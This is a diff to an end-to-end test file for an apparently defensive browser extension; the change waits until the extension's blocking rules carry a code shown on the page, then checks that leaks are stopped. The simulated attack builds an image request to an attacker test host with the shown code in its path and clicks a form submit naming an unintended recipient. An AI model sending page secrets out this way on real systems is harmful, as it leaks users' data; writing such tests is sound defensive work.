@@ -118,11 +118,25 @@ async function attack(run: Run, server: TestServer): Promise<{ navigation: strin
   );
   // (5) the code the page showed, in an ordinary image path (only the taint refuses it), once the
   // collector has reported it and the floor carries it
-  await new Promise((r) => setTimeout(r, 1_500));
+  if (run.control !== null) await taintInFloor(run.control);
   await network.evaluate((src) => document.body.append(Object.assign(new Image(), { src })), `${attacker}/pixel/code/${SHOWN_CODE}.png`);
   // (3) a consequential form submit naming a recipient the task does not
   void form.click('#send').catch(() => undefined);
   return { navigation, post: beacon.then(() => post) };
+}
+
+/** Waits until the floor's dynamic rules carry SHOWN_CODE (read from the popup, an extension page). */
+async function taintInFloor(control: Page): Promise<void> {
+  const deadline = Date.now() + 15_000;
+  while (Date.now() < deadline) {
+    const filters = await control.evaluate(async () => {
+      const dnr = (globalThis as unknown as { chrome: { declarativeNetRequest: { getDynamicRules(): Promise<{ condition: { urlFilter?: string } }[]> } } }).chrome.declarativeNetRequest;
+      return (await dnr.getDynamicRules()).map((r) => r.condition.urlFilter ?? '');
+    });
+    if (filters.includes(SHOWN_CODE)) return;
+    await new Promise((r) => setTimeout(r, 100));
+  }
+  throw new Error('the floor never received the code shown on the page');
 }
 
 let server: TestServer;
@@ -184,7 +198,7 @@ test('firefox, full build: navigation lands on blocked.html, POST/beacon/image e
   }
 });
 
-test('firefox, MAIN-world hooks removed: the network floor alone keeps the POST, the beacon and both images from arriving, and the navigation off the task', async () => {
+test('firefox, MAIN-world hooks removed: the network floor alone keeps the POST, the beacon, the images and the shown code from arriving, and the navigation off the task', async () => {
   const run = await launch('nohooks');
   try {
     const { navigation, post } = await attack(run, server);
